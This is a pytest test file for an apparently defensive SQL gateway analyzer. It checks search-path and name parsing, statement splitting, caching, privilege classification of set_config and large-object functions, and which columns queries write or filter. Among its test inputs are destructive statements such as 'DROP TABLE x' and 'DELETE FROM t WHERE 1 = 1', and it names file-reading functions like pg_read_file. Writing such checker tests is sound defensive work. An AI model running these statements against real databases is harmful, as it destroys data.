        ("App, Public", ("app", "public")),
        ('"$user", public', ("$user", "public")),
        ("$user,public", ("$user", "public")),
        ('"My Schema" ,\tother', ("My Schema", "other")),
        ('"a""b"', ('a"b',)),
        ('A"B"', ('a"b"',)),  # a quote inside an unquoted name is part of it
        ('""', ("",)),
        ("ÄBC", ("Äbc",)),
        ("a" * 70, ("a" * 63,)),
    ],
)
def test_parse_search_path(text: str, expected: tuple[str, ...]) -> None:
    assert parse_search_path(text) == expected


@pytest.mark.parametrize(
    "text",
    ['"unterminated', "a,", "a,,b", ",a", "a b", "a\vb", '"a" b', '"a"b'],
)
def test_parse_search_path_refuses_what_postgres_refuses(text: str) -> None:
    with pytest.raises(ValueError):
        parse_search_path(text)


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        (None, "privilege SELECT F=set_config S=*"),
        (("role",), "privilege SELECT F=set_config S=role"),
        (("ROLE",), "privilege SELECT F=set_config S=role"),
        (("work_mem",), "session_state SELECT F=set_config S=work_mem"),
        (("client_encoding",), "session_state SELECT F=set_config S=client_encoding"),
        ((None,), "privilege SELECT F=set_config S=*"),
        ((), "privilege SELECT F=set_config S=*"),
    ],
)
def test_bound_parameters_name_settings(
    params: tuple[str | None, ...] | None, expected: str
) -> None:
    assert summary("SELECT set_config($1, $2, false)", params=params) == expected


def test_parameters_are_part_of_the_cache_key() -> None:
    sql = "SELECT set_config($1, 'x', false)"
    assert analyze(sql, params=("work_mem",)).statements[0].settings == ("work_mem",)
    assert analyze(sql, params=("role",)).statements[0].settings == ("role",)
    assert analyze(sql).statements[0].settings == ("*",)


@pytest.mark.parametrize(
    ("text", "parts", "rendered"),
    [
        ("pg_read_file", ("pg_read_file",), "pg_read_file"),
        ("PG_READ_FILE", ("pg_read_file",), "pg_read_file"),
        ("pg_catalog.set_config", ("pg_catalog", "set_config"), "pg_catalog.set_config"),
        ('"MyFunc"', ("MyFunc",), '"MyFunc"'),
        ('public."My.Func"', ("public", "My.Func"), 'public."My.Func"'),
        ('"a""b"', ('a"b',), '"a""b"'),
        ('"pg_catalog"."upper"', ("pg_catalog", "upper"), "pg_catalog.upper"),
        ("Ümlaut", ("Ümlaut",), "Ümlaut"),
        ("x" * 70, ("x" * 63,), "x" * 63),
        ('"' + "y" * 70 + '"', ("y" * 63,), "y" * 63),
        ("a.b.c", ("a", "b", "c"), "a.b.c"),
    ],
)
def test_parse_name(text: str, parts: tuple[str, ...], rendered: str) -> None:
    name = parse_name(text)
    assert name == Name(parts)
    assert str(name) == rendered
    assert parse_name(str(name)) == name


@pytest.mark.parametrize("text", ["", ".", "a.", ".a", '"', '""', '"a', "a b", 'a"b"', "a..b"])
def test_parse_name_rejects(text: str) -> None:
    with pytest.raises(ValueError):
        parse_name(text)


def test_name_parts() -> None:
    name = Name(("pg_catalog", "set_config"))
    assert (name.schema, name.name) == ("pg_catalog", "set_config")
    assert Name(("f",)).schema is None


# --- statement boundaries and texts ------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "",
        " ",
        ";",
        ";;;",
        "\n\t ;\n",
        "-- only a comment",
        "/* only */ ; -- comments",
        "/* a /* b */ */",
    ],
)
def test_no_statements(sql: str) -> None:
    analysis = analyze(sql)
    assert analysis.statements == ()
    assert not analysis.unknown


def test_statement_indexes_and_texts() -> None:
    analysis = analyze("  SELECT 1 ;\n-- note\nDELETE FROM t WHERE id = 2;; DROP TABLE x  ")
    assert [s.index for s in analysis.statements] == [0, 1, 2]
    assert [s.text for s in analysis.statements] == [
        "SELECT 1",
        "DELETE FROM t WHERE id = 2",
        "DROP TABLE x",
    ]


def test_long_statement_text_is_cut_for_display() -> None:
    sql = "SELECT " + ", ".join(f"c{i}" for i in range(2000)) + " FROM t"
    statement = analyze(sql).statements[0]
    assert statement.kind is StatementClass.READ
    assert len(statement.text) == 2000
    assert statement.text.endswith("\u2026")


def test_walk_reports_when_nested_statements_run() -> None:
    statement = analyze("PREPARE p AS WITH x AS (DELETE FROM t RETURNING 1) SELECT 1").statements[0]
    walked = [(s.command, when) for s, when in statement.walk()]
    assert walked == [
        ("PREPARE", Execution.NOW),
        ("SELECT", Execution.LATER),
        ("DELETE", Execution.LATER),
    ]
    explained = analyze("EXPLAIN PREPARE p AS SELECT 1")
    assert explained.unknown
    plain = analyze("EXPLAIN WITH x AS (DELETE FROM t RETURNING 1) SELECT 1").statements[0]
    assert [when for _, when in plain.walk()] == [Execution.NOW, Execution.NEVER, Execution.NEVER]


def test_analysis_walk_all_and_unknown() -> None:
    analysis = analyze("SELECT 1; EXPLAIN ANALYZE DELETE FROM t WHERE id = 1; SELEC 2")
    assert [s.command for s in analysis.walk_all()] == ["SELECT", "EXPLAIN ANALYZE", "DELETE", ""]
    assert analysis.unknown
    assert not analyze("SELECT 1").unknown


def test_nested_unknown_makes_the_analysis_unknown() -> None:
    analysis = analyze("SELECT 1")
    bad = Statement(index=0, text="x", kind=StatementClass.UNKNOWN, command="", reason="r")
    wrapped = Analysis(
        (Statement(index=0, text="y", kind=StatementClass.READ, command="EXPLAIN", nested=(bad,)),)
    )
    assert not analysis.unknown
    assert wrapped.unknown


# --- FunctionCall messages ------------------------------------------------------------


@pytest.mark.parametrize(
    ("oid", "name"),
    [
        (952, "lo_open"),
        (953, "lo_close"),
        (954, "loread"),
        (955, "lowrite"),
        (956, "lo_lseek"),
        (957, "lo_creat"),
        (958, "lo_tell"),
        (964, "lo_unlink"),
        (715, "lo_create"),
        (764, "lo_import"),
        (767, "lo_import"),
        (765, "lo_export"),
        (1004, "lo_truncate"),
        (3170, "lo_lseek64"),
        (3171, "lo_tell64"),
        (3172, "lo_truncate64"),
    ],
)
def test_function_call_large_objects(oid: int, name: str) -> None:
    statement = analyze_function_call(oid).statements[0]
    assert statement.kind is StatementClass.UTILITY
    assert statement.command == "FUNCTION CALL"
    assert statement.functions == (Name(("pg_catalog", name)),)


@pytest.mark.parametrize("oid", [0, 1, 1242, 2200, 16384, 2**32 - 1])
def test_function_call_other_oids_are_unknown(oid: int) -> None:
    statement = analyze_function_call(oid).statements[0]
    assert statement.kind is StatementClass.UNKNOWN
    assert str(oid) in statement.reason


# --- cache ------------------------------------------------------------------------------


def test_cache_returns_the_same_analysis() -> None:
    cache_clear()
    sql = "SELECT id FROM customers WHERE name = 'x'"
    first = analyze(sql)
    assert analyze(sql) is first
    assert analyze(sql, search_path=("app",)) is not first
    assert analyze(sql, search_path=("app",)).statements[0].reads == (Name(("app", "customers")),)
    cache_clear()
    assert analyze(sql) is not first
    assert analyze(sql) == first


def _with_other_numbers(sql: str, *, descending: bool) -> str:
    """``sql`` with each distinct number replaced by another, in the same or reverse order."""
    shape = sqlcheck_cache._shape(sql)
    assert shape is not None
    pieces = shape.split("\x00")
    for i in range(1, len(pieces), 2):
        n = int(pieces[i])
        pieces[i] = str(900_000 - n if descending else 900_000 + n)
    return "".join(pieces)


SHAPED = [sql for sql, _ in ALL_TABLES if sqlcheck_cache._shape(sql) is not None]


@pytest.mark.parametrize("descending", [False, True])
@pytest.mark.parametrize("sql", SHAPED)
def test_a_cached_shape_gives_what_a_fresh_analysis_gives(sql: str, descending: bool) -> None:
    variant = _with_other_numbers(sql, descending=descending)
    cache_clear()
    analyze(sql)  # warms the cache with this text's literals
    warmed = analyze(variant)
    cache_clear()
    assert warmed == analyze(variant)


def test_enough_of_the_tables_have_a_shape() -> None:
    assert len(SHAPED) >= 100


def test_statements_differing_only_in_numbers_share_one_analysis() -> None:
    cache_clear()
    first = analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 1;")
    second = analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 4711;")
    assert second.statements[0].text == "SELECT abalance FROM pgbench_accounts WHERE aid = 4711"
    assert replace(second.statements[0], text="") == replace(first.statements[0], text="")
    assert len(sqlcheck_cache._SHAPES._data) == 1 and not sqlcheck_cache._CACHE._data


@pytest.mark.parametrize(
    ("warm", "then", "restricting"),
    [
        # Constants are folded: a harmless verdict must not carry over to a tautology.
        ("DELETE FROM t WHERE 2 < 1", "DELETE FROM t WHERE 1 < 2", False),
        ("DELETE FROM t WHERE 1 = 2", "DELETE FROM t WHERE 1 = 1", False),
        ("UPDATE t SET a = 1 WHERE 1 = 2", "UPDATE t SET a = 1 WHERE 3 = 3", False),
        ("DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE 1 = 1", False),
        ("DELETE FROM t WHERE id = 1 -- 1 = 1", "DELETE FROM t WHERE 1 = 1 -- id = 1", False),
        ("DELETE FROM t WHERE 1 = 1", "DELETE FROM t WHERE id = 1", True),
    ],
)
def test_the_shape_cache_cannot_carry_a_verdict_to_another_statement(
    warm: str, then: str, restricting: bool
) -> None:
    cache_clear()
    analyze(warm)
    assert analyze(then).statements[0].restricting_where is restricting


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1e5",  # exponent: read as one token by PostgreSQL
        "SELECT 0x1F",  # hexadecimal (PostgreSQL 16)
        "SELECT 1_000",  # digit separators (PostgreSQL 16)
        "SELECT E'\\x' || 1",  # backslash escapes
        "SELECT $$1$$, 2",  # dollar quoting
        "SELECT /* 1 */ 2",  # block comments nest in PostgreSQL
        "SELECT U&'\\0031', 2",  # Unicode escapes
        "SELECT 'unterminated, 1",
        "SELECT 1; SELECT 2",  # shaped, but several statements are not templated
        "DELETE FROM t WHERE id = 1",  # writes fold constants in their WHERE
    ],
)
def test_texts_the_simple_lexer_may_misread_use_the_exact_cache(sql: str) -> None:
    cache_clear()
    analyze(sql)
    assert not sqlcheck_cache._SHAPES._data


def test_features_are_frozensets_and_statements_hashable() -> None:
    statement = analyze("SELECT * FROM t FOR UPDATE").statements[0]
    assert statement.features == frozenset({Feature.ROW_LOCK})
    assert hash(statement) == hash(analyze("SELECT * FROM t FOR UPDATE").statements[0])


@pytest.mark.parametrize(
    ("sql", "ends"),
    [
        ("select 1", [8]),
        ("select 1; select 'a;b'; -- c\n delete from t ;", [8, 22, 43]),
        ("select $$a;b$$;; select 2;", [14, 25]),
        ("select 1 /* a; comment */; select 2", [8, 35]),
        ("select 'unterminated", None),
    ],
)
def test_statement_ends_split_as_the_analysis_does(sql: str, ends: list[int] | None) -> None:
    from server.gateway.sqlcheck import statement_ends

    got = statement_ends(sql)
    assert got == ends
    if got is not None:
        assert len(got) == len(analyze(sql).statements)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ('update t set a = 1, "B" = 2 where id = 3', [("public.t", "a"), ("public.t", "B")]),
        ("update t set (a, b) = (1, 2)", [("public.t", "a"), ("public.t", "b")]),
        ("update t set a.f = 1", [("public.t", "a")]),  # field f of composite column a
        ("insert into s.t (x, y) values (1, 2)", [("s.t", "x"), ("s.t", "y")]),
        ("insert into t values (1)", [("public.t", "*")]),
        ("insert into t select * from u", [("public.t", "*")]),
        (
            "insert into t (a) values (1) on conflict (a) do update set b = 2",
            [("public.t", "a"), ("public.t", "b")],
        ),
        (
            "with d as (update t set a = 1 returning *) insert into u (z) select a from d",
            [("public.u", "z"), ("public.t", "a")],
        ),
        ("explain analyze update t set a = 1", [("public.t", "a")]),
        ("select a from t", []),
        ("delete from t where a = 1", []),
        # MERGE and COPY name their target as a relation only.
        ("merge into t using u on t.id = u.id when matched then update set a = 1", []),
        ("copy t (a) from stdin", []),
    ],
)
def test_columns_written(sql: str, expected: list[tuple[str, str]]) -> None:
    (top,) = analyze(sql).statements
    assert [(str(name), column) for name, column in top.columns_written] == expected


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("select abalance from accounts where aid = 5", [("public.accounts", "aid")]),
        # Qualified by an alias, or by the table's name; JOIN ON, ORDER BY.
        (
            "select c.email from customers c join orders o on o.cid = c.id order by o.total",
            [("public.orders", "cid"), ("public.customers", "id"), ("public.orders", "total")],
        ),
        (
            'select 1 from s.t where t.a = 1 and "T2".b = 2',
            [("s.t", "a"), (None, "b")],  # "T2" is no table of the query
        ),
        # Unqualified, with two tables in the query: the text does not say which.
        ("select 1 from t, u where a = 1", [(None, "a")]),
        # A subquery's columns belong to its own tables; a correlated one's to the outer.
        (
            "select id from customers where id in (select cid from orders where total > 5)",
            [("public.customers", "id"), ("public.orders", "cid"), ("public.orders", "total")],
        ),
        (
            "select 1 from customers c where exists (select 1 from orders o where o.cid = c.id)",
            [("public.orders", "cid"), ("public.customers", "id")],
        ),
        # A CTE's or a subquery's alias stands for no table.
        ("with x as (select * from t) select * from x where x.email = 'a'", [(None, "email")]),
        ("select * from (select * from t) s where s.email = 1", [(None, "email")]),
        # HAVING, GROUP BY, DISTINCT ON, PARTITION BY, ON CONFLICT's target.
        ("select city from t group by city having count(*) > 1", [("public.t", "city")]),
        ("select distinct on (ssn) ssn from t", [("public.t", "ssn")]),
        ("select rank() over (partition by dept) from t", [("public.t", "dept")]),
        (
            "insert into t (a, b) values (1, 2) on conflict (a) do update set b = 3",
            [("public.t", "a")],
        ),
        # UPDATE ... FROM and DELETE ... USING name the rows they change.
        (
            "update customers c set name = 'x' from orders o where o.cid = c.id and c.ssn = '1'",
            [("public.orders", "cid"), ("public.customers", "id"), ("public.customers", "ssn")],
        ),
        (
            "delete from customers c using orders o where o.cid = c.id",
            [("public.orders", "cid"), ("public.customers", "id")],
        ),
        # USING names a column of both sides: the catalog tells which tables have it.
        ("select 1 from customers join orders using (cid)", [(None, "cid")]),
        ("select email from customers", []),
        ("select count(*) from t", []),
    ],
)
def test_columns_filtered(sql: str, expected: list[tuple[str | None, str]]) -> None:
    (top,) = analyze(sql).statements
    got = [
        (str(name) if name is not None else None, column) for name, column in top.columns_filtered
    ]
    assert got == expected
